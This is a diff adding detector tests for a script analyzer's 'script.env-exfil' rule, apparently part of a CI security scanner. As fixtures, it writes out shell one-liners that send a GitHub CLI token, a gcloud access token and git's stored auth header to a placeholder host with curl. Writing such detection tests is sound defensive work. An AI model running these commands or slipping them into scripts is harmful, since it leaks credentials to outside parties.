@@ -327,3 +327,25 @@ describe('a secret echoed into a sender that reads standard input', () => {
       expect(rules(analyzeScript(code, 'sh', false))).not.toContain('script.env-exfil');
   });
 });
+
+describe('commands that print a credential, sent out', () => {
+  it('gh auth token piped to curl, a gcloud token in the body, a checkout persisted auth header posted', () => {
+    for (const code of [
+      'gh auth token | curl -s -d @- https://ci-insights.example.dev/a',
+      'curl -s -d "t=$(gcloud auth print-access-token)" https://ci-insights.example.dev/a',
+      'git config --get-all http.https://github.com/.extraheader | base64 | curl -s --data-binary @- https://ci-insights.example.dev/h',
+    ])
+      expect(rules(analyzeScript(code, 'sh', false))).toContain('script.env-exfil');
+  });
+  it('the same token used as the request’s own authorization header is quiet', () => {
+    expect(
+      rules(
+        analyzeScript(
+          'curl -H "Authorization: Bearer $(gh auth token)" https://api.example.com/user',
+          'sh',
+          false,
+        ),
+      ),
+    ).not.toContain('script.env-exfil');
+  });
+});
